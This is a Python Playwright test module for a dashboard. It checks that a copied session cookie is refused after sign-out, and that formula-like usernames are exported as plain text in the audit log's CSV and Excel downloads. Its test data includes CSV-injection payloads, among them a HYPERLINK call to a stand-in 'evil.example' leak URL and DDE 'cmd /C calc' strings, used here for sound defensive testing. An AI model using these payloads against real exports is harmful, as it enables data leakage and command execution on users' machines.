"""Security end to end in a real browser (issue 22): a copied sign-in cookie opens nothing once its sign-in
has been signed out, in a fresh browser or in a second one already signed in with it; and text that a
spreadsheet would read as a formula (typed at the sign-in form as a username) arrives in the audit log's
CSV and Excel downloads as text, checked in the files the browser downloads (the Excel one with openpyxl).

One app and one browser for the module; each test has its own browser contexts (cookie jars). Every wait is
on a condition with a generous timeout: CI runs these beside the rest of the suite on two cores."""

from __future__ import annotations

import csv
import io
import re
import time
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
from openpyxl import load_workbook
from sqlalchemy import create_engine, select

from dashboard.auth.signin import COOKIE_NAME
from dashboard.exports import FORMULA_START, neutral
from dashboard.i18n import translate
from db.models import AuditEntry
from tests.browser.app import (
    DEMO_PASSWORD,
    MAIN,
    ROOT,
    SIGN_IN_TITLES,
    heading,
    launch,
    need_chromium,
    no_exception,
    running_app,
    seed,
    settle,
    submit_sign_in,
)

WAIT = 60_000  # ms: generous, for a loaded CI machine
SHOTS = ROOT / "artifacts" / "browser"


@pytest.fixture(scope="module")
def server(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[str, str]]:
    """(base URL, database URL) of one app for the module."""
    need_chromium()
    folder = tmp_path_factory.mktemp("browser_security")
    database = seed(folder / "postloan.db", loans=120)
    SHOTS.mkdir(parents=True, exist_ok=True)
    with running_app(database, folder / "streamlit.log") as started:
        yield started, database


@pytest.fixture(scope="module")
def browser(server: tuple[str, str]) -> Iterator[Any]:
    from playwright.sync_api import sync_playwright

    with sync_playwright() as p:
        chromium = launch(p)
        yield chromium
        chromium.close()


@pytest.fixture
def new_page(browser: Any) -> Iterator[Callable[..., Any]]:
    """Pages in fresh contexts (each its own cookie jar), closed after the test."""
    contexts: list[Any] = []

    def make(cookies: list[dict[str, Any]] | None = None) -> Any:
        context = browser.new_context(
            viewport={"width": 1400, "height": 1000}, locale="en-US", accept_downloads=True
        )
        contexts.append(context)
        if cookies:
            context.add_cookies(cookies)
        return context.new_page()

    yield make
    for context in contexts:
        context.close()


def _session_cookie(page: Any) -> dict[str, Any] | None:
    return next((c for c in page.context.cookies() if c["name"] == COOKIE_NAME), None)


def _wait_for(condition: Callable[[], Any], what: str, page: Any, timeout: float = WAIT / 1000) -> Any:
    """Poll until condition() is truthy (the page's own timer, so its events keep running)."""
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        found = condition()
        if found:
            return found
        page.wait_for_timeout(250)
    raise AssertionError(f"timed out waiting for {what}")


def _sign_in(page: Any, base: str, username: str) -> None:
    """Sign in through the form, the form filled only once the new session's first runs are over (a run
    that starts between the typing and the click can redraw the form empty); tried again, with a
    screenshot, if the sign-out button still has not come."""
    for attempt in range(3):
        page.goto(f"{base}/?lang=en")
        page.get_by_role("textbox", name="Username").wait_for(timeout=WAIT)
        settle(page)
        try:
            submit_sign_in(page, username, DEMO_PASSWORD)
            page.get_by_role("button", name="Sign out").wait_for(timeout=WAIT)
            return
        except Exception:
            page.screenshot(path=str(SHOTS / f"security-sign-in-{username}-{attempt}.png"), full_page=True)
            assert page.get_by_text("Incorrect username or password.").count() == 0
    raise AssertionError(f"{username} could not sign in; see {SHOTS}")


def _signed_in_cookie(page: Any, base: str, username: str) -> dict[str, Any]:
    """Sign in through the form and return the sign-in cookie once the app has set it (on the run after
    the sign-in)."""
    _sign_in(page, base, username)
    return _wait_for(lambda: _session_cookie(page), "the sign-in cookie", page)


def _sign_out(page: Any) -> None:
    from playwright.sync_api import expect

    page.get_by_role("button", name="Sign out").click()
    expect(page.get_by_role("textbox", name="Username").first).to_be_visible(timeout=WAIT)
    expect(page.get_by_text(translate("auth.signed_out", "en")).first).to_be_visible(timeout=WAIT)
    settle(page)


def _shows_the_sign_in_form(page: Any, notice: str) -> None:
    from playwright.sync_api import expect

    # The notice is the server's answer to the cookie (or to the session's next run): waiting for it waits
    # for the run that read the cookie, not merely for the form every new session shows first.
    # In either language: a session whose state was cleared may draw the form before it reads ?lang=.
    either = re.compile("|".join(re.escape(translate(notice, lang)) for lang in ("en", "zh")))
    expect(page.get_by_text(either).first).to_be_visible(timeout=WAIT)
    settle(page)
    expect(page.get_by_role("textbox", name="Username").first).to_be_visible(timeout=WAIT)
    assert page.locator(f"{MAIN} h1").first.inner_text().strip() in SIGN_IN_TITLES
    assert page.get_by_role("button", name="Sign out").count() == 0
    no_exception(page)


def test_a_copied_cookie_opens_nothing_after_sign_out(server: tuple[str, str], new_page: Any) -> None:
    base = server[0]
    first = new_page()
    copied = _signed_in_cookie(first, base, "risk")
    _sign_out(first)

    # A fresh browser holding only the copy: the token's signature is still good, the server's session is
    # not, so the app says the sign-in has ended and drops the cookie instead of opening.
    fresh = new_page([copied])
    fresh.goto(f"{base}/?lang=en")
    _shows_the_sign_in_form(fresh, "auth.session_ended")
    _wait_for(lambda: _session_cookie(fresh) is None, "the revoked cookie's deletion", fresh)
    # A deep link with the copy does not open its page either.
    deep = new_page([copied])
    deep.goto(f"{base}/overview?lang=en")
    _shows_the_sign_in_form(deep, "auth.session_ended")


def test_sign_out_in_one_browser_ends_the_other_browser_s_session(
    server: tuple[str, str], new_page: Any
) -> None:
    from playwright.sync_api import expect

    base = server[0]
    one = new_page()
    copied = _signed_in_cookie(one, base, "risk")
    overview = heading(one)
    assert overview not in SIGN_IN_TITLES

    # The same sign-in in a second browser, by the copied cookie: the app opens (the copy does work).
    other = new_page([copied])
    other.goto(f"{base}/?lang=en")
    assert heading(other) == overview
    expect(other.get_by_role("button", name="Sign out")).to_have_count(1, timeout=WAIT)

    _sign_out(one)

    # The other browser's next action runs the page again: the server no longer holds the session.
    links = other.locator("[data-testid='stSidebarNavLink']")
    expect(links.nth(1)).to_be_visible(timeout=WAIT)
    links.nth(1).click()
    _shows_the_sign_in_form(other, "auth.session_ended")
    # Nor is a reload signed back in. Its copy of the cookie may still be in its jar (the deletion is sent
    # by the run that signed it out, and the cookie is not needed gone): then the server refuses it again.
    settle(other)
    kept = _session_cookie(other) is not None
    other.reload()
    if kept:
        _shows_the_sign_in_form(other, "auth.session_ended")
    else:
        expect(other.get_by_role("textbox", name="Username").first).to_be_visible(timeout=WAIT)
        settle(other)
        assert other.get_by_role("button", name="Sign out").count() == 0


# Usernames typed at the sign-in form, each starting the way a spreadsheet formula does.
FORMULAS = [
    '=HYPERLINK("https://evil.example/?leak","Click me")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
]


def _download(page: Any, label: str, folder: Path) -> Path:
    button = page.get_by_role("button", name=label)
    button.first.wait_for(timeout=WAIT)
    with page.expect_download(timeout=WAIT) as info:
        button.first.click()
    download = info.value
    assert download.failure() is None, download.failure()
    path = folder / download.suggested_filename
    download.save_as(path)
    return path


def test_formula_like_text_is_text_in_the_downloaded_files(
    server: tuple[str, str], new_page: Any, tmp_path: Path
) -> None:
    base, database = server
    page = new_page()
    page.goto(f"{base}/?lang=en")
    page.get_by_role("textbox", name="Username").wait_for(timeout=WAIT)
    # Each failure's audit row, as the log keeps the name (an unknown one cut short, its start kept).
    engine = create_engine(database)

    def logged() -> list[str]:
        with engine.connect() as conn:
            names = conn.execute(
                select(AuditEntry.username).where(AuditEntry.action == "login_failed")
            ).scalars()
            return sorted({n for n in names if n.startswith(FORMULA_START)})

    for typed in FORMULAS:
        start = typed.strip().lower()[:2]
        for _ in range(2):  # a submit lost to a run that redrew the form is made again
            settle(page)
            submit_sign_in(page, typed, "not the password")
            try:
                _wait_for(lambda s=start: any(n.startswith(s) for n in logged()), typed, page, timeout=30)
                break
            except AssertionError:
                continue
    names = logged()
    engine.dispose()
    assert len(names) == len(FORMULAS), names
    assert {n[0] for n in names} == {"=", "+", "-", "@"}

    page = new_page()
    _sign_in(page, base, "auditor")
    page.goto(f"{base}/audit?lang=en")
    assert heading(page) == translate("page.audit", "en")
    no_exception(page)

    # CSV: every text cell a spreadsheet would read as a formula carries the apostrophe neutral() puts.
    csv_path = _download(page, translate("common.download_csv", "en"), tmp_path)
    assert csv_path.suffix == ".csv"
    rows = list(csv.DictReader(io.StringIO(csv_path.read_bytes().decode("utf-8-sig"), newline="")))
    usernames = {row["username"] for row in rows}
    for name in names:
        assert neutral(name) == "'" + name
        assert neutral(name) in usernames, (name, sorted(usernames)[:20])
        assert name not in usernames
    for row in rows:
        for column in ("username", "action", "table", "record", "before", "after"):
            assert not (row[column] or "").startswith(FORMULA_START), (column, row[column])

    # Excel: no cell is a formula; the names are text cells holding the neutralised text.
    xlsx_path = _download(page, translate("common.download_excel", "en"), tmp_path)
    assert xlsx_path.suffix == ".xlsx"
    sheet = load_workbook(xlsx_path).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert len(cells) > len(names)
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    header = [cell.value for cell in next(sheet.iter_rows(max_row=1))]
    column = header.index("username")
    found = {row[column].value: row[column].data_type for row in sheet.iter_rows(min_row=2)}
    for name in names:
        assert found.get(neutral(name)) == "s", (name, found.get(neutral(name)))
        assert name not in found
